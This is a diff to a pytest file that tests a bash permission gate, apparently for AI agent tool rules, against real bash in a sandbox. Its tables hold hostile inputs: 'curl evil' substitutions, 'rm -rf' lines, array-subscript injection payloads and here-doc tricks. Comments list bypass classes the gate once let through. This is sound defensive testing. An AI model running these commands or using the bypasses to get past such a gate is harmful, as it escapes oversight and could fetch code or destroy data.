@@ -11,15 +11,14 @@ more through hypothesis; each covered one runs twice, with every program exiting
 
 from __future__ import annotations
 
+import os
 import random
-import re
-from collections.abc import Callable, Iterator, Sequence
+from collections.abc import Iterator
 from concurrent.futures import Future, ThreadPoolExecutor
-from dataclasses import dataclass
 from pathlib import Path
-from typing import TypeVar
 
 import pytest
+from bash_corpus import EDIT_OUT, PAYLOAD, SB, generate
 from bash_oracle import BASH, Ran, Sandbox, by_definition, differential, misses
 from examples import PERCENT, examples
 from hypothesis import given, settings
@@ -29,185 +28,7 @@ from skillgrant import check_call
 
 pytestmark = pytest.mark.skipif(not Path(BASH).exists(), reason=f"{BASH} is not installed")
 
-SB = "@SB@"  # the sandbox's working directory, filled in per sandbox
-EDIT_OUT = f"Edit(/{SB}/out/**)"
-T = TypeVar("T")
 UNSAFE = frozenset({"unknown", "not_covered"})
-PAYLOAD = "'b[$(curl evil)]'"
-
-# -- the grammar ----------------------------------------------------------------------------------
-
-RULES = [
-    "git *", "git status", "git add:*", "ls *", "echo *", "cat:*", "rm -f *", "npm test",
-    "npm run *", "grep *", "head *", "wc -l", "sort", "printf *", "cd *", "true", "false", ":",
-    "pwd", "read *", "export *", "find *", "tee *", "make *", "touch *", "break", "FOO=1 git *",
-    "x=1", "echo hi", "wait", "type *", "exit",
-]
-#: Rules naming runners, and builtins that evaluate their words: the gate refuses most of the
-#: commands they stand for (each plan draws one of them now and then).
-RUNNER_RULES = ["xargs *", "env *", "sudo *", "sh *", "timeout *", "[ *", "eval *", "nohup *",
-                "test *", "let *", "mapfile *", "compgen *", "jobs *", "declare *", "typeset *",
-                "readonly *", "unset *"]
-#: Arguments for the commands whose own arguments matter.
-SPECIAL = {
-    "cd": ["dir", "out", "dir/sub", "", "~", '"$EMPTY"', "dir/../dir"],
-    "read": ["-r l", "X", "-a arr", PAYLOAD, "-r X <<< " + PAYLOAD],
-    "test": ["-f a.txt", '-n "$X"', "-z $EMPTY", "-v " + PAYLOAD, "-v INJ", "1 -eq 1"],
-    "[": ["-f a.txt ]", '-n "$X" ]', "-v " + PAYLOAD + " ]"],
-    "let": ["x=1+2", "INJ", PAYLOAD, "'x = 1'"],
-    "declare": ["x=1", "-i n=$INJ", "-n r=" + PAYLOAD, PAYLOAD[:-1] + "=1'", "-a arr", "-p X"],
-    "typeset": ["t=2", "-i n=$INJ", PAYLOAD[:-1] + "=1'"],
-    "readonly": ["r=1", PAYLOAD[:-1] + "=1'"],
-    "unset": ["x", "X", PAYLOAD, "-v FOO"],
-    "mapfile": ["-t arr < in.txt", "-C 'curl cb' -c 1 arr < in.txt", "-t < in.txt"],
-    "compgen": ["-W 'a b' a", "-W '$(curl w)' x", "-C 'curl c' x", "-A variable X"],
-    "jobs": ["-l", "-x curl jx"],
-    "printf": ["'%s\\n' a", "-v " + PAYLOAD + " x", "-v x %s \"$INJ\"", "%s $X"],
-    "find": [". -name '*.txt'", ". -type f", ". -exec curl {} \\;", ". -delete"],
-    "xargs": ["git", "-I{} curl {}"], "env": ["git x", "FOO=1 curl e"],
-    "sudo": ["git x"], "sh": ["-c 'curl evil'", "-c 'git status'"],
-    "timeout": ["5 curl evil", "5 git x"], "type": ["git", "-t echo"],
-    "export": ["FOO=1", "X", "B='a b'"],
-}
-ARGS = [
-    "a", "-f", "--force", "x.txt", "out/f", "a.txt", "HEAD", "1", "-n", "--", "-rf", "status",
-    "a=b", "-exec", "{}", "\\;", "%s", "'a b'", "'a; curl evil'", "'$(curl evil)'", "'&&'",
-    "'|'", '"a b"', '"x && y"', '"$X"', '"${X}"', '"pre $X post"', '"\\$X"', '"a\\"b"',
-    '"\\`curl evil\\`"', "''", '""', "'it'\\''s'", "\"a'b\"", "a\\ b", "\\&\\&", "\\$X", "\\*",
-    "\\|", "\\#x", "#x", "a#b", "$X", "${X}", "$EMPTY", "$1", '"$@"', "$@", "$*", "${X:-d}",
-    "${#X}", "$?", "$SPACED", "$GLOB", "$SEMI", "--flag=$X", "a$X", "$X.txt",
-    "$QUOTE", "$NL", "$#", "${#}", "*.txt", "?.txt", "[ab].txt", "{a,b}", "{1..3}", "~",
-    "~/out", "dir/*", "*", "$'a\\nb'", "$'\\x41'", '$"x"', "a\\\nb",
-]
-#: Arguments that hold code, keywords or constructs the gate refuses (drawn less often).
-HAZARDS = [
-    "if", "then", "}", "{", "!", "[[", "esac", "done", "$((INJ))", "${!REF}", "${b[INJ]}",
-    "${PINJ@P}", "$[INJ]", "${X:INJ}", "$(curl evil)", "`curl evil`", "<(curl evil)",
-    '"$(curl evil)"', ">(curl evil)", "$((b[INJ]))", "${EMPTY:-$[INJ]}", "${X/a/$[INJ]}",
-    '"$\\\n(curl evil)"', "$\\\n[INJ]", "$((1+2))",
-]
-ODD = [
-    "eval git status", 'eval "curl evil"', "source in.txt", ". ./in.txt", "exec git x",
-    "builtin echo a", "command git status", "trap 'curl evil' EXIT", "f() { curl evil; }; f",
-    "[[ -n $X ]]", "(( 1 ))", "coproc git x", "$CMD status", "\"$CMD\" x", "${CMD} x",
-    "alias g=git", "{git x;}", "select s in a; do git x; done", "/bin/echo a", "a=(1 2)",
-    "X=b[0] declare -n q=X", "shopt -s expand_aliases", "set -e", "hash -r",
-]
-WRAPS = ["timeout 5 ", "timeout -s KILL 5 ", "timeout --preserve-status 1s ", "nice ",
-         "nice -n 5 ", "nice -5 ", "nohup ", "time ", "time -p ", "stdbuf -oL ", "stdbuf -o L ",
-         "nice -n 5 timeout 5 ", "\\time ", "nohup -- ", "timeout -k 1 5 "]
-ASSIGN = ["FOO=1 ", "A='a b' ", "X= ", "Y=$X "]
-REDIRECTS = ["> out/f", ">> out/log", "2> out/err", "&> out/all", "> /dev/null", "2>&1", ">&2",
-             "< in.txt", "2>/dev/null", "> f.txt", ">| out/f", "> 'out/s p'", '> "$X"',
-             "> ~/out/f", "<<< \"$X\"", f"> {SB}/out/abs", "> dir/../out/g", ">&out/h",
-             "3>out/fd3", "> out/$X", "2>>out/err"]
-HEREDOCS = ["cat <<EOF\nhello $X\nEOF\n", "cat <<'EOF'\n$(curl evil)\nEOF\n",
-            "cat <<-EOF\n\thi\n\tEOF\n", "cat <<EOF | git x\nbody\nEOF\n",
-            "cat <<EOF\n$(curl evil)\nEOF\n", "cat <<-EOF\nx\n\tEOF\ncurl evil\n",
-            "cat <<\\EOF\nx\nEOF\n", "cat <<EOF > out/h\nx\nEOF\n", "cat <<E\n$\\\n(curl e)\nE\n"]
-SHAPES = ["( @L@ )", "{ @T@ }", "if @T@ then @T@ else @T@ fi", "if @T@ then @T@ fi",
-          "for f in @W@; do @T@ done", "while read -r l; do @T@ done < in.txt",
-          "while false; do @T@ done", "until @S@; do @T@ break; done",
-          "case @A@ in a*) @L@;; *) @L@;; esac", "@H@"]
-JOINERS = [" && ", " || ", "; ", " & ", "\n", " ;", ";"]
-
-
-@dataclass
-class Maker:
-    """Draws one command for one plan: mostly from the plan's own rules, so a good share is
-    covered; sometimes from the whole vocabulary, runners and constructs the gate refuses."""
-
-    rng: random.Random
-    rules: list[str]
-
-    def pick(self, choices: Sequence[T]) -> T:
-        return choices[self.rng.randrange(len(choices))]
-
-    def args(self, name: str) -> str:
-        if name in SPECIAL and self.rng.random() < 0.7:
-            return self.pick(SPECIAL[name])
-        return " ".join(self.pick(HAZARDS if self.rng.random() < 0.06 else ARGS)
-                        for _ in range(self.rng.randrange(4)))
-
-    def from_rule(self, rule: str) -> str:
-        name = rule.split()[0].removesuffix(":*")
-        if rule.endswith(" *") and self.rng.random() < 0.03:
-            text = rule[:-2] + "\\\n" + self.args(name).lstrip()  # bash joins the two
-        elif rule.endswith(":*"):
-            text = rule[:-2] + " " + self.args(name)
-        else:
-            text = rule.replace("*", self.args(name))
-        return text.strip()
-
-    def simple(self) -> str:
-        roll = self.rng.random()
-        if roll < 0.8 and self.rules:
-            body = self.from_rule(self.pick(self.rules))
-        elif roll < 0.95:
-            body = self.from_rule(self.pick(RULES + RUNNER_RULES))
-        else:
-            return self.pick(ODD)
-        prefix = self.pick(ASSIGN) if self.rng.random() < 0.06 else ""
-        if self.rng.random() < 0.12:
-            prefix += self.pick(WRAPS)
-        return prefix + body + self.redirects()
-
-    def redirects(self) -> str:
-        if self.rng.random() > 0.2:
-            return ""
-        return "".join(" " + self.pick(REDIRECTS) for _ in range(self.rng.randrange(1, 3)))
-
-    def compound(self, depth: int) -> str:
-        roll = self.rng.random() if depth < 2 else 0.0
-        if roll < 0.75:
-            return self.simple()
-        fill: dict[str, Callable[[], str]] = {
-            "L": lambda: self.list(depth + 1), "T": lambda: _term(self.list(depth + 1)),
-            "W": lambda: self.args("for") or "a", "S": self.simple,
-            "A": lambda: self.pick(ARGS), "H": lambda: self.pick(HEREDOCS)}
-        text = re.sub("@([LTWSAH])@", lambda m: fill[m.group(1)](), self.pick(SHAPES))
-        return text + ("" if roll < 0.9 else self.redirects())
-
-    def list(self, depth: int = 0) -> str:
-        parts = []
-        for _ in range(self.pick([1, 1, 1, 2, 2, 3] if depth == 0 else [1, 1, 2])):
-            text = self.compound(depth)
-            if self.rng.random() < 0.2 and not text.endswith("\n"):
-                text += self.pick([" | ", " |& "]) + self.compound(depth)
-            parts.append(("! " if self.rng.random() < 0.04 else "") + text)
-        out = parts[0]
-        for part in parts[1:]:
-            out += ("" if out.endswith("\n") else self.pick(JOINERS)) + part
-        return out
-
-
-def _term(text: str) -> str:
-    return text + (" " if text.endswith("\n") else "; ")
-
-
-def generate(rng: random.Random) -> tuple[str, list[str]]:
-    """One command with its plan (entries naming the sandbox as ``SB``)."""
-    rules = rng.sample(RULES, rng.randrange(2, 8))
-    if rng.random() < 0.2:
-        rules.append(rng.choice(RUNNER_RULES))
-    maker = Maker(rng, rules)
-    command = maker.list()
-    if rng.random() < 0.05:
-        command += " # " + maker.pick(["curl evil", "; rm -rf x", "$(curl evil)"])
-    entries = [f"Bash({rule})" for rule in rules]
-    roll = rng.random()
-    if roll < 0.6:
-        entries.append(EDIT_OUT)
-    elif roll < 0.7:
-        entries.append(f"Edit(/{SB}/**)")
-    elif roll < 0.8:
-        entries.append("Edit(out/**)")
-    if rng.random() < 0.05 and not any(c in command for c in "()\\\n"):
-        entries.append(f"Bash({command})")
-    if rng.random() < 0.01:
-        entries.append("Bash")
-    return command, entries
-
 
 # -- the fixed table ------------------------------------------------------------------------------
 
@@ -228,8 +49,8 @@ ROWS: list[tuple[str, list[str], str | frozenset[str]]] = [
     ("cat <<EOF\n`\\\ncurl evil`\nEOF", CAT, UNSAFE),
     (f"for X in {PAYLOAD}; do echo $\\\n[X]; done", ECHO, UNSAFE),
     ("echo $# ; curl evil", ECHO, "not_covered"), ("echo ${#X}; curl evil", ECHO, "not_covered"),
-    ("echo $(rm x)", ECHO, "unknown"), ("cat <(curl evil)", CAT, "unknown"),
-    ("git status \"$(curl evil)\"", GIT, "unknown"),
+    ("echo $(rm x)", ECHO, "not_covered"), ("cat <(curl evil)", CAT, "unknown"),
+    ("git status \"$(curl evil)\"", GIT, "not_covered"),  # a substitution is judged
     ("git status `curl evil`", GIT, "unknown"),
     ("eval git status", GIT, "unknown"),
     ("eval git status", ["Bash(eval git status)"], "covered"),
@@ -254,17 +75,80 @@ ROWS: list[tuple[str, list[str], str | frozenset[str]]] = [
     ("{ git status; } 2>&1 > /dev/null", GIT, "covered"),
     ("( git status; git log ) > out/f", OUT, "covered"),
     ("if git diff --quiet; then curl evil; fi", GIT, "not_covered"),
-    ("for f in *.txt; do git add \"$f\"; done", ["Bash(git add:*)"], "covered"),
+    # a variable the command sets reaches every later program: the plan must name it
+    ("for f in *.txt; do git add \"$f\"; done", ["Bash(git add:*)"], "not_covered"),
+    ("for f in *.txt; do echo \"$f\"; done", ECHO, "covered"),
     # `< in.txt` reads a file the words do not name: a Read of it
     ("while read -r l; do git show \"$l\"; done < in.txt", [*GIT, "Bash(read *)"],
      "not_covered"),
     ("while read -r l; do git show \"$l\"; done < in.txt",
-     [*GIT, "Bash(read *)", f"Read(/{SB}/**)"], "covered"),
+     [*GIT, "Bash(read *)", f"Read(/{SB}/**)"], "not_covered"),
+    ("while read -r l; do echo \"$l\"; done < in.txt",
+     [*ECHO, "Bash(read *)", f"Read(/{SB}/**)"], "covered"),
     ("case $X in a) curl evil;; esac", GIT, "not_covered"),
     ("cat <<EOF\n$(curl evil)\nEOF", CAT, "unknown"),
     ("cat <<'EOF'\n$(curl evil)\nEOF", CAT, "unknown"),  # `$(` anywhere is not analysed
     ("cat <<-EOF\n\tx\n\tEOF\ncurl evil\n", CAT, "not_covered"),
-    ("cat <<E\\OF\nx\nEOF\ncurl evil\n", CAT, "not_covered"),
+    ("cat <<E\\OF\nx\nEOF\ncurl evil\n", CAT, UNSAFE),
+    # issue 29's six classes: each the gate once allowed, and bash ran outside the plan
+    ("git status\n\\rm -rf x", GIT, UNSAFE),
+    ("cat <<E'O'F\nx\nEOF\ncurl evil\nE'O'F\n", CAT, UNSAFE),
+    ("cat <<EO\"F\"\nx\nEOF\ncurl evil\nEO\"F\"\n", CAT, UNSAFE),
+    ("cat <<$'EOF'\nx\nEOF\ncurl evil\n$'EOF'\n", CAT, UNSAFE),
+    ("cat <<-'EOF'\nx\n\tEOF\ncurl evil\nEOF\n", CAT, UNSAFE),
+    ("git push origin <<< $ --force", ["Bash(git push origin)"], UNSAFE),
+    ("git push origin <<< { --force", ["Bash(git push origin)"], UNSAFE),
+    ("echo hi {PATH}>/dev/null; git status", [*ECHO, "Bash(git status)"], UNSAFE),
+    ('time $"bash" -c "curl evil" --help', ["Bash(* --help)"], UNSAFE),
+    ('nohup $"bash" -c "curl evil" --help', ["Bash(* --help)"], UNSAFE),
+    ("export npm_config_x=1; npm test", ["Bash(export *)", "Bash(npm test)"], "not_covered"),
+    ("read -r http_proxy < in.txt; git status", [*GIT, "Bash(read *)", f"Read(/{SB}/**)"],
+     "not_covered"),
+    ("printf -v x %s 1; git status", [*GIT, "Bash(printf *)"], "not_covered"),
+    ("x=1; git status", [*GIT, "Bash(x=1)"], "not_covered"),
+    ("x=1; git status", ["Bash(x=1)", "Bash(x=1 git *)"], "not_covered"),
+    ("x=1; git status", ["Bash(x=1)", "Bash(x=1 git *)", *GIT], "covered"),
+    # substitutions judged; the over-strict rows of issue 29
+    ("git commit -m \"$(cat <<'EOF'\nfix: a\n\nbody\nEOF\n)\"",
+     ["Bash(git commit *)", "Bash(cat *)"], "covered"),
+    ("git commit -m \"$(cat <<'EOF'\nfix\nEOF\n)\"", ["Bash(git commit *)"], "not_covered"),
+    ('git status --short "$(cat in.txt)"', [*GIT, "Bash(cat *)"], "covered"),
+    ("echo $(cat in.txt; curl evil)", [*ECHO, "Bash(cat *)"], "not_covered"),
+    ("echo ${X:-$(curl evil)}", ECHO, UNSAFE),
+    ("echo '$(curl evil)'", ECHO, UNSAFE),
+    ("echo hi >&-", ECHO, "covered"), ("echo hi 2>&1-", ECHO, "covered"),
+    # the adversarial review of issue 29 (reports/i29-breaks.md): each was covered once
+    ("echo ${X:=b} ${FOO=c}; git x", [*ECHO, *GIT], UNSAFE),  # G1: they assign
+    ('test ""{-v,' + PAYLOAD + "}", ["Bash(test *)"], UNSAFE),  # H1: the brace splits
+    ('[ ""* ]', ["Bash([ *)"], UNSAFE),
+    ('printf ""{-v,PATH} ./evil; git status', ["Bash(printf *)", "Bash(git status)"], UNSAFE),
+    ('for y in a; do test ""$y; done', ["Bash(test *)"], UNSAFE),  # H1b: $y splits
+    ("[ a > out/victim ]", ["Bash([ *)"], UNSAFE),  # I1: `>` redirects `[`
+    ("git x$$", GIT, UNSAFE),  # L1: $$ is the process id
+    ("git status 99999999999>/dev/null", ["Bash(git status)"], UNSAFE),  # J1: a word
+    ("git push origin <&- --force", ["Bash(git push origin)"], UNSAFE),  # K1
+    ("git push origin >&- --force", ["Bash(git push origin)"], UNSAFE),
+    ("echo a >&99999999999", ECHO, UNSAFE),  # over an int: a file bash writes
+    ("! ! sh -c 'curl evil' --help", ["Bash(* --help)"], UNSAFE),  # M1: `!` is no program
+    ("time ! sh -c 'curl evil' --help", ["Bash(* --help)"], UNSAFE),
+    ("time FOO=1 sh -c 'curl evil'", ["Bash(FOO=1 *)"], UNSAFE),  # M2: an assignment
+    ("time if true; then git x; fi", [*GIT, "Bash(true)", "Bash(if *)", "Bash(then *)",
+                                      "Bash(fi)"], UNSAFE),
+    ("FOO+=1 git x", ["Bash(FOO=1 git *)"], UNSAFE),  # L2: += appends
+    # Q1: a program that runs first may put a link where a redirection then writes
+    ("git x && echo a > out/f", OUT, "unknown"), ("git x | echo a > out/f", OUT, "unknown"),
+    ("echo $(git x) > out/f", OUT, "unknown"), ("git x; { echo a; } > out/f", OUT, "unknown"),
+    ("for i in 1 2; do git x > out/f; done", [*OUT, "Bash(* git x)"], "unknown"),
+    ("git x > out/f && git y", OUT, "covered"), ("{ git x; } > out/f", OUT, "covered"),
+    ("git x > out/f &", OUT, "covered"), ("echo a > out/f; echo b >> out/f", OUT, "covered"),
+    ("nice -n 5 timeout 5 sh -c 'curl evil' --help", ["Bash(* --help)"], UNSAFE),
+    ("wc -l <>out/rw", ["Bash(wc -l)", EDIT_OUT], "covered"),
+    ("wc -l <>out/rw", ["Bash(wc -l)"], "not_covered"),
+    ("[ -f a.txt ] && echo y", ["Bash([ *)", *ECHO], "covered"),
+    ("test -f a.txt || echo n", ["Bash(test *)", *ECHO], "covered"),
+    ('[ "$X" = a ]', ["Bash([ *)"], "covered"), ("[ ! -d dir ]", ["Bash([ *)"], "covered"),
+    ("[ -n $X ]", ["Bash([ *)"], "unknown"), ("[ INJ -eq 1 ]", ["Bash([ *)"], "unknown"),
+    ("test -v INJ", ["Bash(test *)"], "unknown"), ("[ -f a.txt ]", ["Bash(test *)"], "not_covered"),
     ("echo a > out/f", ECHO, "not_covered"),
     ("echo a > out/f", OUT, "covered"),
     ("echo a > f.txt", OUT, "not_covered"),
@@ -275,7 +159,7 @@ ROWS: list[tuple[str, list[str], str | frozenset[str]]] = [
     ("cd dir && echo a > out/f", [*OUT, "Bash(cd *)"], "unknown"),
     (f"cd dir && echo a > {SB}/out/f", [*OUT, "Bash(cd *)"], "covered"),
     ("! git status", GIT, "covered"),
-    ("wc -l <> out/rw", ["Bash(wc -l)", EDIT_OUT], UNSAFE),
+    ("wc -l <> out/rw", ["Bash(wc -l)"], UNSAFE),
     # MISS: builtins that evaluate an array subscript, or a callback, given in their words
     (f"test -v {PAYLOAD}", ["Bash(test *)"], UNSAFE),
     (f"printf -v {PAYLOAD} x", ["Bash(printf *)"], UNSAFE),
@@ -356,15 +240,38 @@ def test_table_against_bash(sandbox: Sandbox) -> None:
     assert not found, f"{len(found)} covered rows ran more than allowed:\n" + "\n".join(found)
 
 
+def test_table_against_bash_in_the_fallback(sandbox: Sandbox) -> None:
+    """Without bash 5.2 (the cross-check's stricter fallback), what the gate covers is still
+    all that bash runs."""
+    from skillgrant.gate.crosscheck import bash_path, use_bash
+
+    before = bash_path()
+    use_bash(None)
+    try:
+        test_table_against_bash(sandbox)
+    finally:
+        use_bash(before)
+
+
 # -- generated commands ---------------------------------------------------------------------------
 
-CORPUS = examples(7500)
+#: The corpus's size and seed: .ci/steps/45-bash-differential.sh runs 20,000 more commands
+#: from another seed (``SKILLGRANT_BASH_CORPUS``, ``SKILLGRANT_BASH_SEED``).
+CORPUS = int(os.environ.get("SKILLGRANT_BASH_CORPUS") or examples(7500))
+SEED = os.environ.get("SKILLGRANT_BASH_SEED") or "skg-bash"
+#: What the executed commands hold, counted and printed: issue 29's places where a second
+#: parser and bash part ways.
+FEATURES = {"here-doc": "<<", "here-doc quoted": "<<'", "<<-": "<<-", "here-string": "<<<",
+            "continuation": "\\\n", "$(…)": "$(", "ANSI-C": "$'", "locale": '$"',
+            "comment": "#", "fd variable": "}>", "unicode space": "\u00a0", "[ / test": "[ ",
+            "time": "time ", "!": "! ", "assignment": "=", "wrapper": "timeout "}
 
 
 def test_generated_corpus() -> None:
     """Commands from fixed seeds; each covered one runs under bash, in one of two sandboxes (one
     worker thread each) while the gate judges the next."""
     tally = dict.fromkeys(["generated", "covered", "by definition", "executed", "timed out"], 0)
+    held = dict.fromkeys(FEATURES, 0)
     found: dict[str, str] = {}  # one command for each distinct miss
     with Sandbox() as one, Sandbox() as two, ThreadPoolExecutor(1) as first, \
             ThreadPoolExecutor(1) as second:
@@ -372,7 +279,7 @@ def test_generated_corpus() -> None:
         pending: list[tuple[str, list[str], Future[tuple[list[str], int]]]] = []
         for i in range(CORPUS):
             box, lane = lanes[i % 2]
-            command, entries, status = bound(*generate(random.Random(f"skg-bash-{i}")), box)
+            command, entries, status = bound(*generate(random.Random(f"{SEED}-{i}")), box)
             tally["generated"] += 1
             if status != "covered":
                 continue
@@ -381,6 +288,8 @@ def test_generated_corpus() -> None:
                 tally["by definition"] += 1
                 continue
             tally["executed"] += 1
+            for name, mark in FEATURES.items():
+                held[name] += mark in command
             pending.append((command, entries, lane.submit(differential, box, command, entries)))
         for command, entries, future in pending:
             missed, timeouts = future.result()
@@ -389,9 +298,10 @@ def test_generated_corpus() -> None:
                 found.setdefault(miss.split()[0] if miss.startswith("computed") else miss,
                                  report(command, entries, missed))
     summary = ", ".join(f"{n} {what}" for what, n in tally.items()) + f", {len(found)} misses"
-    print(f"\nbash differential: {summary}")
+    print(f"\nbash differential: {summary}\n  executed commands holding: " +
+          ", ".join(f"{name} {n}" for name, n in held.items()))
     assert not found, f"{summary}; a command for each:\n" + "\n".join(dict.fromkeys(found.values()))
-    assert tally["covered"] >= tally["generated"] * 0.25, summary
+    assert tally["covered"] >= tally["generated"] * 0.2, summary
     assert PERCENT < 100 or tally["executed"] >= 1500, summary
 
 
